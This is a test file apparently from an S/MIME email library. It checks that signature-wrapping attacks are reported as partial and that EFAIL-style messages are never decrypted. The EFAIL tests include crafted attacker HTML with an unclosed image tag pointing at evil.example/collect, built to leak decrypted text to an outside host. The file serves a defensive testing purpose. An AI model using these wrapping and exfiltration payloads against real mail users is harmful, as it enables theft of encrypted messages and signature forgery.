// S/MIME signature wrapping and EFAIL wrapping: a signed or encrypted S/MIME part below unsigned MIME is never the whole message.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { open } from '../../crypto/index.js';
import { smimeEncrypt } from '../../crypto/smime/index.js';
import { text } from '../helpers/message.js';
import { smimePki, type SmimePki } from '../helpers/smime-pki.js';
import { smimeRecipients, type SmimeRecipients } from '../helpers/smime-recipients.js';
import { crlf, encode, wrapped } from './craft.js';

let pki: SmimePki;
let people: SmimeRecipients;
/** Alice's genuine S/MIME multipart/signed entity (made by OpenSSL), as an attacker copies it from a mail she once sent. */
let aliceSigned: string;

const SIGNED_TEXT = 'Meet me at the station at 10.';
const ATTACKER_TEXT = 'P.S. Change of plan: send the contract to mallory@evil.example.';
const SECRET = 'The vault code is 7141.';

beforeAll(async () => {
  [pki, people] = await Promise.all([smimePki(), smimeRecipients()]);
  const signed = text(await pki.sign(`Content-Type: text/plain; charset=us-ascii\r\n\r\n${SIGNED_TEXT}\r\n`, [pki.rsa]));
  aliceSigned = signed.replace(/^MIME-Version: 1\.0\r?\n/, '');
});
afterAll(() => pki.dispose());

const HEADER = crlf`
From: Alice <alice@example.org>
To: Bob <bob@example.org>
Subject: Meeting
Date: Sat, 28 Nov 2026 10:00:00 +0000
MIME-Version: 1.0
`;

/** Opens as Bob, counting how often his S/MIME identities are asked for (each time would mean a decryption attempt). */
async function openAsBob(message: string) {
  let asked = 0;
  const report = await open({
    message: encode(message),
    smime: {
      trustAnchors: [pki.root.certificate],
      identities: async () => {
        asked++;
        return [{ certificate: people.bob.certificate, privateKey: people.bob.privateKey }];
      },
    },
  });
  return { report, asked };
}

/** An application/pkcs7-mime EnvelopedData entity (AES-CBC) holding `body`, to Bob: what an attacker captured on the wire. */
async function envelopedToBob(body: string, gcm = false): Promise<string> {
  const inner = encode(`Content-Type: text/plain; charset=us-ascii\r\n\r\n${body}\r\n`);
  const { mime } = await smimeEncrypt({ message: inner, recipients: [people.bob.certificate], sender: people.alice.certificate, gcm });
  return text(mime);
}

describe('S/MIME signed content wrapped in unsigned MIME', () => {
  it('is valid when the signed entity is the root (the control for every case below)', async () => {
    const { report } = await openAsBob(HEADER + aliceSigned);
    expect(report.signature).toMatchObject({ state: 'valid', scheme: 'smime' });
    expect(report.text).toContain(SIGNED_TEXT);
  });

  it('is partial when unsigned text is appended after the signed part', async () => {
    const { report } = await openAsBob(wrapped.appended(HEADER, aliceSigned, ATTACKER_TEXT));
    expect(report.signature).toMatchObject({ state: 'partial', scheme: 'smime', signer: { address: 'alice@example.org' } });
    expect(report.text).toContain(SIGNED_TEXT);
    expect(report.text).toContain(ATTACKER_TEXT);
    expect(report.warnings).toContain('only part of this message is signed; the rest could have been added by anyone');
  });

  it('is partial when unsigned text is prepended, so it is read first', async () => {
    const { report } = await openAsBob(wrapped.prepended(HEADER, aliceSigned, ATTACKER_TEXT));
    expect(report.signature.state).toBe('partial');
    expect(report.text).toContain(ATTACKER_TEXT);
  });

  it('is partial when the signed part is one alternative and the attacker supplies the HTML one a client prefers', async () => {
    const { report } = await openAsBob(wrapped.htmlAlternative(HEADER, aliceSigned, `<p>${ATTACKER_TEXT}</p>`));
    expect(report.signature.state).toBe('partial');
  });

  it('is partial when the signed part sits two levels deep', async () => {
    const { report } = await openAsBob(crlf`
${HEADER}Content-Type: multipart/mixed; boundary="outer"

--outer
Content-Type: multipart/mixed; boundary="inner"

--inner
${aliceSigned}
--inner--
--outer
Content-Type: text/plain; charset=us-ascii

${ATTACKER_TEXT}
--outer--
`);
    expect(report.signature.state).toBe('partial');
  });

  it('is partial when the wrapped signed part has been tampered with, and names the bad signature', async () => {
    const { report } = await openAsBob(crlf`
${HEADER}Content-Type: multipart/mixed; boundary="outer"

--outer
${aliceSigned.replace(SIGNED_TEXT, 'Meet me at the station at 11.')}
--outer
Content-Type: text/plain; charset=us-ascii

${ATTACKER_TEXT}
--outer--
`);
    expect(report.signature.state).toBe('partial');
    expect(report.warnings.join('\n')).toMatch(/does not verify/);
  });
});

describe('S/MIME encrypted parts wrapped in other MIME (EFAIL direct exfiltration)', () => {
  it('never decrypts a captured EnvelopedData part placed between attacker HTML, and names it', async () => {
    const { report, asked } = await openAsBob(crlf`
${HEADER}Content-Type: multipart/mixed; boundary="outer"

--outer
Content-Type: text/html; charset=us-ascii

<img src="http://evil.example/collect?
--outer
${await envelopedToBob(SECRET)}
--outer
Content-Type: text/html; charset=us-ascii

">
--outer--
`);
    expect(asked).toBe(0);
    expect(report.encryption.state).toBe('none');
    expect(JSON.stringify(report)).not.toContain('7141');
    expect(report.warnings.join('\n')).toMatch(/part 2 is S\/MIME encrypted but is not the whole message; it was not decrypted/);
  });

  it('never decrypts a captured AuthEnvelopedData part either', async () => {
    const { report, asked } = await openAsBob(crlf`
${HEADER}Content-Type: multipart/mixed; boundary="outer"

--outer
Content-Type: text/plain; charset=us-ascii

${ATTACKER_TEXT}
--outer
${await envelopedToBob(SECRET, true)}
--outer--
`);
    expect(asked).toBe(0);
    expect(JSON.stringify(report)).not.toContain('7141');
    expect(report.warnings.join('\n')).toMatch(/S\/MIME encrypted but is not the whole message/);
  });

  it('decrypts the attacker\'s own enveloped root but not the captured EnvelopedData nested inside it', async () => {
    const inner = crlf`
Content-Type: multipart/mixed; boundary="inner"

--inner
Content-Type: text/html; charset=us-ascii

<img src="http://evil.example/collect?
--inner
${await envelopedToBob(SECRET)}
--inner--
`;
    const { mime } = await smimeEncrypt({ message: encode(inner), recipients: [people.bob.certificate], sender: people.mallory.certificate, gcm: true });
    const { report, asked } = await openAsBob(HEADER + text(mime));
    expect(asked).toBe(1);
    expect(report.encryption).toMatchObject({ state: 'encrypted', scheme: 'smime' });
    expect(JSON.stringify(report)).not.toContain('7141');
    expect(report.warnings.join('\n')).toMatch(/S\/MIME encrypted but is not the whole message; it was not decrypted/);
  });

  it('counts Alice\'s signed part inside an attacker-encrypted message as partial, never valid', async () => {
    const inner = crlf`
Content-Type: multipart/mixed; boundary="inner"

--inner
${aliceSigned}
--inner
Content-Type: text/plain; charset=us-ascii

${ATTACKER_TEXT}
--inner--
`;
    const { mime } = await smimeEncrypt({ message: encode(inner), recipients: [people.bob.certificate], sender: people.mallory.certificate, gcm: true });
    const { report } = await openAsBob(HEADER + text(mime));
    expect(report.encryption.state).toBe('encrypted');
    expect(report.signature.state).toBe('partial');
    expect(report.text).toContain(ATTACKER_TEXT);
  });
});
